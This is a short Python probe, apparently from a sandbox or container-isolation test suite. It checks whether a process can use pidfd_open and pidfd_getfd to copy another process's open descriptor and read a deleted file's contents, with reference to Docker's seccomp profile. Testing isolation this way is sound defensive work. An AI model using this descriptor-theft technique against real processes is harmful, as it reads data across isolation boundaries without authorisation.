"""Take a copy of an open descriptor of a process outside.

The file behind it has no name any more, so there is no other way to its content.
Sources: pidfd_getfd(2); moby's default seccomp profile (pidfd_getfd only with CAP_SYS_PTRACE).
"""

import os

import syscalls


def attempt(target):
    """pidfd_open, pidfd_getfd, read."""
    target.step("find")
    if not syscalls.is_victim(target):
        return target.absent(syscalls.unseen(target))
    target.step("pidfd_open")
    process = syscalls.syscall("pidfd_open", target.pid, 0)
    target.step("pidfd_getfd")
    stolen = syscalls.syscall("pidfd_getfd", process, target.descriptor, 0)
    target.step("read")
    return os.pread(stolen, 4096, 0)
